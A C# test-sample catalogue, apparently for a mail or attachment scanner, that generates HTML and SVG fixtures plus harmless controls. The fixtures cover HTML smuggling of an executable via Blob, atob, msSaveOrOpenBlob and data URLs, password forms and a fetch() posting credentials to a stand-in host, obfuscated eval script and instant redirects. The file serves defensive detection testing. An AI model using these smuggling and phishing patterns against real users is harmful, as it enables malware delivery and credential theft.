using Made = Sekisho.SampleMaker.Samples;

namespace Sekisho.SampleMaker.Catalogue;

/// <summary>Pages and pictures with script, as bodies and as attachments.</summary>
internal static class Pages
{
    private static readonly string Zip64 = Convert.ToBase64String(ZipWriter.Plain(("run.dat", Made.Program())));
    private static readonly string Program64 = Convert.ToBase64String(Made.Program());

    public static IReadOnlyList<Sample> Samples { get; } =
    [
        Page("html-blob", "A page that puts a file together (Blob, atob, object URL)", $"<script>var d=\"{Zip64.Insert(40, "\" + \"")}\";var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.click()</script>"),
        Page("html-ms-save", "A page that saves numbers as a file (msSaveOrOpenBlob)", $"<script>var a=new Uint8Array([{string.Join(",", Made.Program())}]);navigator.msSaveOrOpenBlob(new Blob([a]),'x.exe')</script>"),
        Page("html-data-url", "A link that is itself the file", $"<a download='x.exe' href='data:application/octet-stream;base64,{Program64}'>open</a>"),
        Page("html-data-frame", "A frame that is itself a batch file", "<iframe src='data:text/plain;base64,QGVjaG8gb2ZmDQplY2hvIGhhcm1sZXNzDQo='></iframe>"),
        Page("html-password-form", "A page that asks for a password", "<form action=\"https://host.example/p\"><input name=u><input type=password></form>"),
        Page("html-obfuscated", "Script that is written not to be read", "<script>eval(unescape('" + string.Concat(Enumerable.Repeat("%61%6c%65", 200)) + "'))</script>"),
        Page("html-hidden-text", "Much text that nobody sees", "<p style=\"font-size: 0\">" + string.Concat(Enumerable.Repeat("harmless words ", 60)) + "</p>"),
        Page("html-refresh", "A page that leads on at once", "<meta http-equiv=refresh content=\"0; url=https://host.example/next\">"),
        Page("html-refresh-script", "A script that leads on at once", "<script>window.location.href = \"https://host.example/next\";</script>"),
        Page("html-password-script", "A password sent by script", "<form onsubmit='go()'><input type=password></form><script>function go() { fetch('https://host.example/p', { method: 'POST' }); }</script>"),
        Page("html-password-local", "A password that goes nowhere yet", "<form><input type=password></form>"),
        Page("honest-refresh", "A page that shows itself again after a minute; nothing is wrong", "<meta http-equiv=refresh content=\"60; url=https://hospital.example/status\">"),
        new Sample("html-body-password-form", "A body that asks for a password", () => LetterWriter.Page("確認", "<html><form action=\"https://host.example/p\"><input type=password></form></html>")),
        new Sample("html-body-script", "A body with script", () => LetterWriter.Page("確認", "<html><script>var harmless = 'a text of more than forty letters in a script';</script></html>")),
        Sample.Attached("svg-onload", "A picture with script in an attribute", "logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"go()\"><path/></svg>"),
        Sample.Attached("svg-script", "A picture with script", "logo.svg", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>location='https://host.example/'</script></svg>"),
        Sample.Attached("svg-smuggling", "A picture that saves a file", "logo.svg", $"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>var b=new Blob([atob(\"{Zip64}\")]);u=URL.createObjectURL(b)</script></svg>"),
        Sample.Attached("svg-page", "A picture that holds a web page with a form", "logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><html xmlns=\"http://www.w3.org/1999/xhtml\"><form action=\"https://host.example/p\"><input type=\"password\"/></form></html></foreignObject></svg>"),
        Sample.Attached("honest-svg", "A picture; nothing is wrong", "logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0L1 1\"/></svg>"),
        new Sample("honest-newsletter", "A newsletter as they are; nothing is wrong", () => LetterWriter.Page("お知らせ",
            "<html><head><style>a{}</style><script type=\"application/ld+json\">{\"@type\":\"Event\"}</script></head><body><div style=\"display:none\">今週のお知らせ"
            + string.Concat(Enumerable.Repeat("&zwnj;&nbsp;", 300)) + "</div><a href=\"https://news.example/1\">続きを読む</a><img src=\"data:image/png;base64,iVBORw0KGgo=\"></body></html>")),
    ];

    private static Sample Page(string name, string shows, string body) => Sample.Attached(name, shows, "page.html", $"<html><body>{body}</body></html>");
}
